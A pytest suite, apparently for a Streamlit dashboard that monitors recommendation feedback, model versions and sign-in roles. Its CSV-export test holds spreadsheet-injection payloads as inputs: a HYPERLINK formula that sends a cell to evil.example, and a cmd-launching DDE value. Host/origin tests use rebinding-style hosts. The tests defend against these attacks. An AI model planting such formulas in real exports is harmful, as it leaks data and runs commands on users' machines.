    # Asking for the version that is active already says so, and records nothing.
    at.selectbox(key="activate_target").set_value(2).run()
    at.button(key="activate_version").click().run()
    own_db.activate_model_version(2, "other@example.com")
    confirm(at)
    assert said(at.info, "v2 is already the active model version")
    assert not said(at.success, "now the active model version")
    assert [r.actor for r in audit_rows(own_db, "model.activated")] == ["other@example.com"]


def test_the_promote_dialog_closes_when_the_candidate_changes(own_db):
    at = open_page("retrain")
    at.button(key="promote_candidate").click().run()
    assert "confirm_action" in button_keys(at)
    with own_db.engine.begin() as conn:  # a retrain finished meanwhile: v4 is the candidate now
        conn.execute(
            insert(model_versions).values(_version(4, 2, "candidate", None, "manual", own_db.now(), 0.8))
        )
    data.refresh()
    at.run()
    assert not at.exception
    assert "confirm_action" not in button_keys(at)
    assert said(at.warning, "v3") and at.button(key="promote_candidate").label == "Promote v4"
    assert own_db.get_active_model_version()["version_id"] == 2


def test_decisions_that_decided_nothing_are_not_called_a_success(own_db):
    at = open_page("adjustments")
    targets = [int(i) for i in lookups.list_adjustment_inbox(own_db, limit=4)["adjustment_id"]]
    pick(at, targets[:2])
    at.button(key="approve_selected").click().run()
    own_db.reject_adjustments(targets[:2], "other@example.com", "duplicate")  # decided meanwhile
    confirm(at)
    assert not at.success and said(at.error, "No adjustments approved", "2 skipped")
    pick(at, targets[2:])
    at.button(key="approve_selected").click().run()
    own_db.reject_adjustment(targets[2], "other@example.com", "duplicate")
    confirm(at)
    assert not at.success and said(at.warning, "1 adjustment approved", "1 skipped")
    assert own_db.get_adjustment(targets[3])["status"] == "applied"
    open_page("retrain", at)
    at.button(key="start_retrain").click().run()
    job = own_db.request_retrain("other@example.com")  # queued meanwhile
    confirm(at)
    assert not at.success and said(at.info, f"Retrain job {job['job_id']} was already queued")


def test_a_preview_that_changes_no_top_10_says_so(own_db):
    at = open_page("adjustments")
    (first,) = (int(i) for i in lookups.list_adjustment_inbox(own_db, limit=1)["adjustment_id"])
    pick(at, [first])
    at.number_input(key=f"magnitude_{first}").set_value(0.0).run()  # the weight stays at 1.0
    assert any(i.value.startswith("No change to the top 10") for i in at.info)


def test_the_inbox_says_when_more_proposals_wait_than_it_shows(own_db):
    waiting = lookups.list_adjustment_inbox(own_db, limit=100_000)
    assert len(waiting) > 200  # the sample's inbox is longer than the page shows
    at = open_page("adjustments")
    # How many wait in all (it said "200 proposals (the 200 newest; more are waiting...)").
    assert any(
        c.value.startswith(f"The 200 newest of {len(waiting):,} proposals (narrow") for c in at.caption
    )
    assert len(table(at, "adjustment_id", "feature_value")) == 200
    # Oldest first, as a backlog is worked through: the 200 waiting longest.
    at.radio(key="inbox_order").set_value("oldest first").run()
    assert any(
        c.value.startswith(f"The 200 oldest of {len(waiting):,} proposals (narrow") for c in at.caption
    )
    listed = table(at, "adjustment_id", "feature_value")["adjustment_id"]
    assert list(listed) == list(waiting["adjustment_id"].iloc[::-1].head(200))
    at.radio(key="inbox_order").set_value("newest first").run()
    # One user's proposals fit: no such words.
    user = int(waiting["user_id"].iloc[0])
    mine = int((waiting["user_id"] == user).sum())
    at.number_input(key="inbox_user").set_value(user).run()
    assert any(c.value.startswith(f"{mine:,} proposals. ") for c in at.caption)
    assert not any("newest of" in c.value for c in at.caption)
    # The count follows every filter of the list, those on the evidence too, and stops at its cap.
    for filters in (
        {},
        {"min_evidence": 2},
        {"within_days": 30, "feature": "genre"},
        {"reason": "wrong_genre"},
    ):
        listed = lookups.list_adjustment_inbox(own_db, limit=100_000, **filters)
        assert lookups.count_adjustment_inbox(own_db, **filters) == len(listed), filters
    # A feature in any case: "horror" and "Genre" found nothing.
    value = str(waiting["feature_value"].iloc[0])
    for typed, exact in ((value.lower(), value), ("GENRE", "genre")):
        found = lookups.list_adjustment_inbox(own_db, limit=100_000, feature=typed)
        expected = lookups.list_adjustment_inbox(own_db, limit=100_000, feature=exact)
        assert len(found) == len(expected) > 0
        assert lookups.count_adjustment_inbox(own_db, feature=typed) == len(found)
    assert lookups.count_adjustment_inbox(own_db, cap=150) == 150


def test_the_rejection_note_is_cleared_once_used(own_db):
    at = open_page("adjustments")
    first, second = (int(i) for i in lookups.list_adjustment_inbox(own_db, limit=2)["adjustment_id"])
    pick(at, [first])
    # As long a note as the API and the library take (the page cut it at 500 characters).
    assert at.text_input(key=note_key(at)).proto.max_chars == 2000
    at.text_input(key=note_key(at)).input("user 9 loves action after all").run()
    at.button(key="reject_selected").click().run()
    confirm(at)
    assert own_db.get_adjustment(first)["note"] == "user 9 loves action after all"
    pick(at, [second])
    assert at.text_input(key=note_key(at)).value == ""


# ---------------------------------------------------------------- the shared filters


def test_the_sidebar_filters_are_drawn_only_on_the_pages_they_filter(shared_db):
    at = open_page("overview")
    at.sidebar.multiselect(key="filter_reasons").set_value(["wrong_genre"]).run()
    for page in ("versions", "retrain", "adjustments", "users", "audit"):
        open_page(page, at)
        assert not at.sidebar.date_input and not at.sidebar.multiselect, page
    for page in ("reasons", "errors", "overview"):
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception
        assert at.sidebar.multiselect(key="filter_reasons").value == ["wrong_genre"], page  # kept


def test_a_reversed_date_range_is_read_forwards(shared_db):
    at = open_page("overview")
    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    at.sidebar.date_input(key="filter_dates").set_value((last, last)).run()
    assert f"{last:%d %b %Y} – {last:%d %b %Y}, compared with the day before" in [c.value for c in at.caption]
    at.sidebar.date_input(key="filter_dates").set_value((last, first)).run()
    assert not at.exception
    days = (last - first).days + 1
    heading = f"{first:%d %b %Y} – {last:%d %b %Y}, compared with the {days} days before"
    assert any(c.value.startswith(heading) for c in at.caption), [c.value for c in at.caption]
    assert (
        metric(at, "Dislikes") == f"{shared_db.get_model_feedback_metrics()['metrics']['total_dislikes']:,}"
    )


def test_a_kept_window_outside_the_data_gives_way_to_the_default_one(shared_db):
    """A window kept from before the data changed (another database, a reload) that shares no
    day with the days offered is not squeezed onto one edge day (a day of no data, today): the
    pages show the default window of the data's last days."""
    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    default = (max(first, last - timedelta(days=ui.DEFAULT_WINDOW_DAYS - 1)), last)
    at = open_page("overview")
    assert at.session_state["filter_dates"] == default
    far = datetime.now().date() + timedelta(days=400)
    for kept in (
        (first - timedelta(days=400), first - timedelta(days=380)),
        (far, far + timedelta(days=9)),
    ):
        open_page("versions", at)  # a page without the filters: only the kept value stays
        at.session_state["kept_filter_dates"] = kept
        at.switch_page("app_pages/overview.py").run()
        assert not at.exception
        assert at.session_state["filter_dates"] == default, kept
    # One that overlaps the data keeps the days it shares.
    open_page("versions", at)
    at.session_state["kept_filter_dates"] = (first - timedelta(days=5), first + timedelta(days=3))
    at.switch_page("app_pages/overview.py").run()
    assert at.session_state["filter_dates"] == (first, first + timedelta(days=3))


# ---------------------------------------------------------------- identity and database states


def oidc_app() -> AppTest:
    """The app with sign-in configured (an identity provider that is not reachable here)."""
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.secrets["auth"] = {
        "redirect_uri": "http://localhost:8501/oauth2callback",
        "cookie_secret": "test-secret",
        "client_id": "dashboard",
        "client_secret": "x",
        "server_metadata_url": "https://id.example.com/.well-known/openid-configuration",
    }
    return at


def test_oidc_sign_in_and_roles_from_secrets(shared_db):
    at = oidc_app()
    at.secrets["feedback_roles"] = {
        "default": ["viewer"],
        "users": {"alice@example.com": ["viewer", "approver"]},
    }
    at.user = {"is_logged_in": False}
    at.run()
    assert not at.exception and at.button(key="login") and not at.metric
    at.button(key="login").click().run()  # the provider is unreachable here: told so, no stack trace
    assert not at.exception
    at.user = {"is_logged_in": True, "email": "alice@example.com"}
    at.run()
    assert "Signed in as alice@example.com · approver, viewer (signed in)" in [t.value for t in at.text]
    at.switch_page("app_pages/versions.py").run()
    assert at.button(key="activate_version").disabled
    at.user = {"is_logged_in": True, "email": "bob@example.com"}
    at.run()
    assert "Signed in as bob@example.com · viewer (signed in)" in [t.value for t in at.text]


def test_an_email_address_gets_its_roles_whatever_its_case(shared_db):
    at = oidc_app()
    at.secrets["feedback_roles"] = {
        "default": ["viewer"],
        "users": {"bob@example.com": ["viewer", "approver", "admin"], "Case-Id-7": ["viewer", "admin"]},
    }
    at.user = {"is_logged_in": True, "email": "Bob@Example.COM"}
    at.run()
    assert "Signed in as Bob@Example.COM · admin, approver, viewer (signed in)" in [t.value for t in at.text]
    # Identifiers other than addresses (a sub claim) match as written.
    at.user = {"is_logged_in": True, "sub": "case-id-7"}
    at.run()
    assert "Signed in as case-id-7 · viewer (signed in)" in [t.value for t in at.text]
    at.secrets["feedback_roles"] = {
        "users": {"bob@example.com": ["viewer"], "BOB@example.com": ["viewer", "admin"]},
    }
    for email in ("Bob@example.com", "bob@example.com"):  # also the address as written
        at.user = {"is_logged_in": True, "email": email}
        at.run()
        assert not at.exception and not at.metric
        shown = " ".join(e.value for e in [*at.error, *at.text, *at.markdown])
        assert f"lists {email} as BOB@example.com, bob@example.com with different roles" in shown
    # The same roles in another order are the same roles.
    at.secrets["feedback_roles"] = {
        "users": {"bob@example.com": ["viewer", "admin"], "BOB@example.com": ["admin", "viewer"]},
    }
    at.run()
    assert "Signed in as bob@example.com · admin, viewer (signed in)" in [t.value for t in at.text]


def test_a_person_without_a_role_sees_no_page(shared_db):
    at = oidc_app()
    at.secrets["feedback_roles"] = {"default": [], "users": {"alice@example.com": ["viewer"]}}
    at.user = {"is_logged_in": True, "email": "mallory@example.com"}
    at.run()
    for page in PAGES:
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, page
        assert not at.metric and not at.dataframe and not at.sidebar.date_input, page
        assert any("no role" in w.value for w in at.warning), page
        assert "logout" in button_keys(at)
    at.user = {"is_logged_in": True, "email": "alice@example.com"}  # a viewer
    at.run()
    assert [t.value for t in at.title] == ["Audit log"] and not at.warning


def test_invalid_roles_are_explained(shared_db, dashboard_env):
    dashboard_env.setenv("FEEDBACK_OPERATOR_ROLES", "viewer,superuser")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert not at.exception
    assert "superuser" in " ".join(t.value for t in at.text)


@pytest.mark.parametrize("migrated", [True, False], ids=["empty", "no-tables"])
def test_an_empty_database_shows_guidance_on_every_page(dashboard_env, tmp_path, migrated):
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    if migrated:
        engine = make_engine(Settings(database_url=url))
        upgrade_database(engine)
        engine.dispose()
    dashboard_env.setenv("FEEDBACK_DB_URL", url)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    for page in PAGES:
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, page
        assert [t.value for t in at.title] == ["Welcome: there is no feedback yet"]
        guidance = " ".join(m.value for m in at.markdown)
        # The commands name this database: without it they would fill the default one.
        assert f".venv/bin/feedback-core --db {url} demo" in guidance
        assert f".venv/bin/feedback-core --db {url} init" in guidance


def test_the_welcome_page_follows_its_own_advice_at_the_next_reload(dashboard_env, tmp_path):
    # Another process runs `init`, then adds data, while the page is open: each reload says so at
    # once, not when the query cache expires a minute later.
    url = f"sqlite:///{tmp_path / 'later.db'}"
    dashboard_env.setenv("FEEDBACK_DB_URL", url)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert any("no tables yet" in w.value for w in at.warning)
    system = FeedbackSystem.from_url(url)
    system.init_feedback_tables()
    at.run()
    assert [t.value for t in at.title] == ["Welcome: there is no feedback yet"]
    system.add_movies([{"movie_id": 1, "title": "Film 1", "genres": ["Drama"]}])
    system.save_dislike(user_id=7, movie_id=1, predicted_score=0.8, reason="wrong_genre")
    system.close()
    at.run()
    assert not at.exception and "Welcome" not in " ".join(t.value for t in at.title)
    assert next(m.value for m in at.metric if m.label == "Dislikes") == "1"


def test_an_unreachable_database_says_so(dashboard_env):
    dashboard_env.setenv("FEEDBACK_DB_URL", "postgresql+psycopg://ops:s3cret-pw@127.0.0.1:9/feedback")
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert not at.exception
    assert any("cannot be reached" in e.value for e in at.error)
    everything = " ".join(e.value for e in [*at.text, *at.markdown, *at.error, *at.caption])
    assert "s3cret-pw" not in everything


def _refused_urls(tmp_path) -> list:
    not_a_database = tmp_path / "notes.db"
    not_a_database.write_text("these are notes, not a database\n" * 200)
    urls = [(f"sqlite:///{not_a_database}", "the file is not an SQLite database")]
    if PG_URL:
        good = make_url(PG_URL)
        urls.append(
            (
                good.set(password="wrong-pw").render_as_string(hide_password=False),
                f'password authentication failed for user "{good.username}"',
            )
        )
        urls.append(
            (
                good.set(database="feedback_no_such_db").render_as_string(hide_password=False),
                'database "feedback_no_such_db" does not exist',
            )
        )
    return urls


def test_a_database_that_refuses_the_dashboard_says_what_to_correct(dashboard_env, tmp_path):
    for url, reason in _refused_urls(tmp_path):
        dashboard_env.setenv("FEEDBACK_DB_URL", url)
        data.refresh()
        at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
        assert not at.exception, [e.value for e in at.exception]
        assert [e.value for e in at.error] == ["The feedback database refuses the dashboard's connection."]
        assert any(reason in t.value for t in at.text), url
        assert any("correct `FEEDBACK_DB_URL`" in m.value for m in at.markdown)
        assert "wrong-pw" not in " ".join(e.value for e in [*at.text, *at.markdown, *at.error])


def test_csv_downloads_keep_formulas_people_sent_as_text():
    table = pd.DataFrame(
        {
            "title": ['=HYPERLINK("http://evil.example/?d="&B2,"more")', "Heat", "-3+cmd|'/C calc'!A0", None],
            "feature_value": ["@SUM(1+1)", "+41+1", "\tTab", "Drama"],
            "score": [-0.15, 0.5, -1.0, 0.0],
            "dislikes": [1, 2, 3, 4],
        }
    )
    safe = ui.spreadsheet_safe(table)
    assert list(safe["title"])[:3] == [
        '\'=HYPERLINK("http://evil.example/?d="&B2,"more")',
        "Heat",
        "'-3+cmd|'/C calc'!A0",
    ]
    assert list(safe["feature_value"]) == ["'@SUM(1+1)", "'+41+1", "'\tTab", "Drama"]
    assert list(safe["score"]) == [-0.15, 0.5, -1.0, 0.0] and list(safe["dislikes"]) == [1, 2, 3, 4]
    assert list(table["feature_value"])[0] == "@SUM(1+1)"  # the table shown stays as it was
    lines = safe.to_csv(index=False).splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and ",-0.15," in lines[1]
    # A number kept as text is a number to a spreadsheet too; a formula as a column name is not.
    named = ui.spreadsheet_safe(pd.DataFrame({"=1+1": ["-0.150", "+3", "-3+1"]}))
    assert list(named.columns) == ["'=1+1"] and list(named["'=1+1"]) == ["-0.150", "+3", "'-3+1"]


# ---------------------------------------------------------------- formats and charts (pure)


@pytest.mark.parametrize(
    "events,trials,enough,expected",
    [
        (84, 1000, True, "8.40% (6.8–10.3%)"),
        (3, 12, False, "too few impressions (12)"),
        (0, 0, False, "no impressions"),
        (0, 500, True, "0.00% (0.0–0.8%)"),
    ],
)
def test_rates_are_shown_with_their_interval_or_not_at_all(events, trials, enough, expected):
    rate = queries.rate_fields(events, trials, min_trials=30)
    assert rate["enough"] == enough
    assert ui.fmt_rate(rate) == expected


def test_a_version_has_one_colour_on_every_chart():
    def colours(*ids: int) -> dict:
        df = pd.DataFrame({"version_id": list(ids), "version": [f"v{i}" if i else "no version" for i in ids]})
        scale = charts.version_color(df).to_dict()["scale"]
        return dict(zip(scale["domain"], scale["range"], strict=True))

    # Once, v4 was blue alone and red beside v3: the colours went by position in each chart.
    alone, together, many = colours(4), colours(3, 4, 7), colours(*range(1, 13), 0)
    assert alone["v4"] == together["v4"] == many["v4"]
    assert len({together["v3"], together["v4"], together["v7"]}) == 3
    assert many["no version"] == charts.GREY
    assert many["v1"] != many["v11"]


def test_activation_labels_never_overprint_nor_run_off_the_chart():
    rates = pd.DataFrame({"day": pd.to_datetime(["2026-11-01", "2026-11-30"])})
    moments = ["2026-11-10 00:00:00", "2026-11-10 00:00:01", "2026-11-10 00:00:02", "2026-11-10 00:00:03"]
    moments += ["2026-11-20 00:00:00", "2026-11-30 12:00:00"]
    activations = pd.DataFrame(
        {"activated_at": pd.to_datetime(moments), "version": ["v2", "v3", "v4", "v1", "v5", "v6"]}
    )
    laned = charts._label_lanes(activations, rates)
    assert list(laned["lane"][:4]) == [
        12,
        26,
        40,
        54,
    ]  # four at once: four lanes (a fourth overprinted the first)
    assert laned["lane"].iloc[4] == 12  # ten days on: the first lane again
    assert list(laned["side"]) == ["left"] * 5 + ["right"]  # at the right edge: to the left of its rule


def test_charts_never_draw_a_rate_from_too_few_impressions(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    rates = queries.list_daily_rates(shared_db, bounds["first_day"], bounds["last_day"])
    rates.loc[0, ["impressions", "enough"]] = [5, False]
    spec = charts.daily_rate_chart(rates, queries.list_version_activations(shared_db)).to_dict()
    datasets = spec["datasets"]
    band, line, partial, sparse = (datasets[layer["data"]["name"]] for layer in spec["layer"][:4])
    first_day = rates.loc[0, "day"].isoformat()
    assert all(first_day not in str(row["day"]) or row["version"] != rates.loc[0, "version"] for row in line)
    assert [row["impressions"] for row in sparse] == [5]
    assert "field" not in spec["layer"][3]["encoding"]["y"]  # a marker on the top edge, no rate
    assert len(band) == len(line) == len(rates) - 1 and partial == []
    # Today's rate, still rising, is a hollow point of its own, outside the band and the line.
    last = bounds["last_day"]
    spec = charts.daily_rate_chart(rates, queries.list_version_activations(shared_db), today=last).to_dict()
    band, line, partial = (spec["datasets"][layer["data"]["name"]] for layer in spec["layer"][:3])
    todays = int((rates["day"] == rates["day"].max()).sum())
    assert len(partial) == todays and len(line) == len(band) == len(rates) - 1 - todays
    assert spec["layer"][2]["mark"]["filled"] is False
    empty = rates.iloc[0:0]
    for chart in (
        charts.daily_rate_chart(empty, queries.list_version_activations(shared_db).iloc[0:0]),
        charts.reason_bar_chart(
            queries.list_reason_counts(shared_db, bounds["last_day"], bounds["first_day"])
        ),
        charts.score_histogram_chart(
            queries.list_score_histogram(shared_db, bounds["last_day"], bounds["first_day"])
        ),
    ):
        chart.to_dict()  # validates against the Vega-Lite schema


def test_the_score_histogram_sets_versions_side_by_side_in_every_bucket(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    histogram = queries.list_score_histogram(shared_db, bounds["first_day"], bounds["last_day"])
    assert histogram["model_version_id"].nunique() >= 2  # the sample has several versions
    spec = charts.score_histogram_chart(histogram).to_dict()
    encoding = spec["encoding"]
    # Bars of one bucket stand beside each other (not overlaid, hiding one another), every
    # bucket on the axis even when empty, the versions in the order and colours of the legend.
    assert spec["mark"]["type"] == "bar" and encoding["xOffset"]["field"] == "version"
    assert encoding["x"]["scale"]["domain"] == charts.SCORE_BUCKETS and len(charts.SCORE_BUCKETS) == 10
    assert encoding["xOffset"]["scale"]["domain"] == encoding["color"]["scale"]["domain"]
    rows = spec["datasets"][spec["data"]["name"]]
    assert sorted((r["version"], r["scores"], r["dislikes"]) for r in rows) == sorted(
        (r.version, charts.SCORE_BUCKETS[r.bucket], r.dislikes) for r in histogram.itertuples()
    )


def test_the_reasons_table_gives_each_reason_its_rate_beside_its_share(shared_db):
    at = open_page("reasons")
    shown = table(at, "reason", "share", "dislike_rate")
    bounds = queries.get_data_bounds(shared_db)
    counts = queries.list_reason_counts(shared_db, bounds["first_day"], bounds["last_day"])
    assert list(shown["dislike_rate"]) == [ui.fmt_rate(r, trials="impressions") for _, r in counts.iterrows()]
    # The rates first, where a narrow table does not cut them off.
    assert list(shown.columns)[:4] == ["reason", "dislikes", "dislike_rate", "rate_before"]
    # Beside it, the same rate over as many days before (a window in the sample's second half).
    middle = bounds["first_day"] + (bounds["last_day"] - bounds["first_day"]) / 2
    at.session_state["filter_dates"] = (middle + timedelta(days=1), bounds["last_day"])
    at.run()
    days = (bounds["last_day"] - middle).days
    shown = table(at, "reason", "rate_before")
    previous = queries.list_reason_counts(shared_db, middle + timedelta(days=1 - days), middle).set_index(
        "reason"
    )
    for row in shown.itertuples():
        if row.reason in previous.index:
            assert row.rate_before == ui.fmt_rate(previous.loc[row.reason], trials="impressions")
    assert any(r in previous.index for r in shown["reason"])


def test_versions_ten_apart_differ_in_hue_not_only_in_shade():
    # tableau20's companions: each strong colour and its own pale shade.
    strong = [
        "#4c78a8",
        "#f58518",
        "#54a24b",
        "#e45756",
        "#b279a2",
        "#439894",
        "#b79a20",
        "#d67195",
        "#9e765f",
    ]
    pale = ["#9ecae9", "#ffbf79", "#88d27a", "#ff9d98", "#d6a5c9", "#83bcb6", "#f2cf5b", "#fcbfd2", "#d8b5a5"]
    companions = set(zip(strong, pale, strict=True))
    colours = [charts.version_colour(f"v{v}") for v in range(1, 21)]
    assert len(set(colours)) == 20
    # v8 and v18 were a pink and its pale companion.
    assert all((colours[v], colours[v + 10]) not in companions for v in range(10))


def test_the_heatmap_labels_every_genre(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    frame = queries.list_reason_genre(shared_db, bounds["first_day"], bounds["last_day"])
    spec = charts.reason_genre_heatmap(frame).to_dict()
    assert spec["layer"][0]["encoding"]["x"]["axis"]["labelOverlap"] is False


def test_the_heatmap_says_it_shows_the_most_disliked_genres_only(shared_db):
    at = open_page("reasons")
    assert any(c.value.startswith("The 15 genres most disliked in this selection.") for c in at.caption)


def test_a_reason_chart_lists_only_the_reasons_it_shows_each_in_its_own_colour(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    window = (bounds["first_day"], bounds["last_day"])
    every = charts.reason_trend_chart(queries.list_reason_trend(shared_db, *window)).to_dict()
    one = charts.reason_trend_chart(
        queries.list_reason_trend(shared_db, *window, (), ("irrelevant",))
    ).to_dict()
    scale = every["encoding"]["color"]["scale"]
    assert scale["domain"] == list(REASONS)  # the sample has every reason
    assert one["encoding"]["color"]["scale"] == {
        "domain": ["irrelevant"],
        "range": [scale["range"][list(REASONS).index("irrelevant")]],
    }
    bars = charts.reason_bar_chart(queries.list_reason_counts(shared_db, *window, (), ("other",))).to_dict()
    assert bars["encoding"]["color"]["scale"]["domain"] == ["other"]


def test_a_few_days_of_reasons_are_drawn_as_day_wide_bars_on_a_week(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    last = bounds["last_day"]
    one_day = charts.reason_trend_chart(queries.list_reason_trend(shared_db, last, last)).to_dict()
    x = one_day["encoding"]["x"]
    # One day filled the whole chart with one bar, its axis labelled "Nov 30" twice.
    assert x["scale"]["domain"] == [
        pd.Timestamp(last - timedelta(days=6)).isoformat(),
        pd.Timestamp(last + timedelta(days=1)).isoformat(),
    ]
    assert x["axis"]["tickMinStep"] == 24 * 3600 * 1000
    every = charts.reason_trend_chart(queries.list_reason_trend(shared_db, bounds["first_day"], last))
    assert "domain" not in every.to_dict()["encoding"]["x"].get("scale", {})  # weeks of data: their own span


def test_the_reasons_trend_draws_a_day_not_settled_lighter(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    trend = queries.list_reason_trend(shared_db, first, last)

    def counted(spec: dict) -> dict:
        rows = spec["datasets"][spec["data"]["name"]]
        return {pd.Timestamp(r["day"]).date(): r["counted"] for r in rows}

    # The last day still collecting dislikes: its bar was drawn as one complete, its count only rising.
    spec = charts.reason_trend_chart(trend, last_settled=last - timedelta(days=1)).to_dict()
    opacity = spec["encoding"]["opacity"]
    assert opacity["field"] == "counted" and opacity["legend"] is not None
    lightness = dict(zip(opacity["scale"]["domain"], opacity["scale"]["range"], strict=True))
    assert lightness[charts.SO_FAR] < lightness[charts.SETTLED] == 1
    by_day = counted(spec)
    assert by_day.pop(last) == charts.SO_FAR and set(by_day.values()) == {charts.SETTLED}
    assert {"field": "counted", "type": "ordinal", "title": "count"} in spec["encoding"]["tooltip"]
    # Yesterday too in the first hours of today; every day settled: none lighter, no legend for it.
    two = counted(charts.reason_trend_chart(trend, last_settled=last - timedelta(days=2)).to_dict())
    assert [day for day, c in two.items() if c == charts.SO_FAR] == [last - timedelta(days=1), last]
    for settled in (last, None):
        spec = charts.reason_trend_chart(trend, last_settled=settled).to_dict()
        assert set(counted(spec).values()) == {charts.SETTLED}
        assert spec["encoding"]["opacity"]["legend"] is None


def test_reasons_page_says_what_its_lighter_bars_are_when_a_day_has_not_settled(own_db):
    at = open_page("reasons")
    lighter = "Lighter bars: days not settled, their lists still collecting dislikes until 6 hours"
    assert not any(c.value.startswith(lighter) for c in at.caption)  # the sample lies in the past
    items = [{"movie_id": m, "predicted_score": 0.9} for m in range(1, 41)]
    set_id = own_db.record_recommendation_set(900, items, model_version_id=2)  # shown now, today
    own_db.save_dislike(900, 1, recommendation_set_id=set_id, predicted_score=0.9, reason="other")
    data.refresh()
    at.session_state["filter_dates"] = (queries.get_data_bounds(own_db)["first_day"], own_db.now().date())
    at.run()
    assert any(c.value.startswith(lighter) for c in at.caption), [c.value for c in at.caption]


def test_a_days_rate_is_drawn_at_its_noon_beside_activations_at_their_moment(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    rates = queries.list_daily_rates(shared_db, bounds["first_day"], bounds["last_day"])
    spec = charts.daily_rate_chart(rates, queries.list_version_activations(shared_db)).to_dict()
    band, line = spec["layer"][0], spec["layer"][1]
    assert line["encoding"]["x"]["field"] == "noon"
    # The band's tooltip is formatted as the line's (it showed raw fractions).
    assert band["encoding"]["tooltip"] == line["encoding"]["tooltip"]
    drawn = spec["datasets"][line["data"]["name"]]
    # At midnight, a day's point came before an activation at 09:20 that same day.
    assert all(pd.Timestamp(r["noon"]) == pd.Timestamp(r["day"]) + pd.Timedelta(hours=12) for r in drawn)
    # And each day's label sits under its point, at noon (at midnight it fell between two points).
    ticks = band["encoding"]["x"]["axis"]["values"]
    assert {(t["year"], t["month"], t["date"], t["hours"]) for t in ticks} == {
        (d.year, d.month, d.day, 12) for d in pd.to_datetime(rates["day"])
    }


def test_a_rate_chart_of_only_zero_rates_has_a_readable_axis(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    rates = queries.list_daily_rates(shared_db, bounds["first_day"], bounds["last_day"])
    activations = queries.list_version_activations(shared_db)

    def rate_scale(frame: pd.DataFrame, today=None) -> dict:
        return (
            charts.daily_rate_chart(frame, activations, today)
            .to_dict()["layer"][0]["encoding"]["y"]
            .get("scale", {})
        )

    # Up to the highest band (its upper edges were cut flat), labelled "nice" from there.
    assert rate_scale(rates)["domain"] == [0, rates.loc[rates["enough"], "ci_high"].max()]
    # No dislike on a list yet: every rate 0, which Vega labelled "0.000000%" up the axis.
    zero = rates.assign(rate=0.0, ci_low=0.0, ci_high=0.0)
    assert rate_scale(zero)["domain"] == [0, 0.01]
    # Today's point alone (a first day): its interval is not drawn, so it does not count.
    today = rates[rates["day"] == rates["day"].max()].assign(rate=0.0, ci_low=0.0, ci_high=0.02)
    assert rate_scale(today, bounds["last_day"])["domain"] == [0, 0.01]
    assert rate_scale(today.assign(rate=0.01), bounds["last_day"])["domain"] == [0, 0.01]


@pytest.fixture
def listening_on():
    """Set the address the dashboard listens on (``server.address``), as the server would."""
    from streamlit import config

    before = config.get_option("server.address")
    yield lambda address: config.set_option("server.address", address)
    config.set_option("server.address", before)


@pytest.mark.parametrize("address", ["", "0.0.0.0", "192.0.2.7", "127.example.com"])
def test_local_mode_is_refused_on_a_dashboard_that_listens_beyond_this_machine(
    shared_db, dashboard_env, listening_on, address
):
    listening_on(address)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert not at.exception
    assert [e.value for e in at.error] == ["Sign-in is needed: other machines can reach this dashboard."]
    (reason,) = [t.value for t in at.text]
    where = f"on {address}" if address else "on every network interface (server.address is not set)"
    assert reason.startswith(f"This dashboard listens {where} without sign-in")
    assert "ops@example.com with the roles admin, approver, viewer" in reason
    assert not at.metric and not at.sidebar.date_input  # nothing shown, nothing to act on
    # A network declared trusted (a proxy in front signs people in), or this machine only: served.
    dashboard_env.setenv("FEEDBACK_DASHBOARD_TRUST_NETWORK", "1")
    assert not at.run().error and at.metric
    dashboard_env.delenv("FEEDBACK_DASHBOARD_TRUST_NETWORK")
    listening_on("127.0.0.1")
    assert not at.run().error and at.metric


@pytest.mark.parametrize(
    "host, origin, served",
    [
        ("localhost:8501", "http://localhost:8501", True),
        ("127.0.0.1:8501", "http://127.0.0.1:8501", True),
        ("[::1]:8501", "http://[::1]:8501", True),
        ("localhost", "https://localhost", True),  # HTTPS on its default port
        ("localhost:443", "https://localhost", True),
        ("localhost", "http://localhost", True),
        ("localhost:9000", None, True),  # no Origin: not a browser's page
        ("localhost:8501", "http://localhost:8502", False),  # another port: another site
        ("127.0.0.1:8501", "http://localhost:8501", False),  # another server on the other name
        ("localhost", "http://localhost", True),
        ("evil.test:8501", "http://evil.test:8501", False),  # a name pointed at 127.0.0.1
        ("localhost:8501@evil.test", "http://localhost:8501", False),
        ("192.0.2.2:8501", "http://192.0.2.2:8501", False),  # a forwarder reached from the network
        ("127.0.0.1:8501", "http://192.0.2.2:9601", False),  # a proxy that rewrites Host
        ("localhost:8501", "null", False),
    ],
)
def test_local_mode_serves_only_its_own_pages_on_this_machine(host, origin, served):
    assert (identity._foreign(host, origin) is None) is served


@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "::ffff:127.0.0.1", "LOCALHOST"])
def test_local_mode_serves_a_dashboard_that_listens_on_this_machine_only(
    shared_db, dashboard_env, listening_on, address
):
    listening_on(address)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT).run()
    assert not at.exception and not at.error and at.metric


def test_sign_in_serves_a_dashboard_that_listens_on_the_network(shared_db, listening_on):
    listening_on("0.0.0.0")
    at = oidc_app()
    at.secrets["feedback_roles"] = {"default": ["viewer"]}
    at.user = {"is_logged_in": True, "email": "alice@example.com"}
    at.run()
    assert not at.exception and not at.error and at.metric


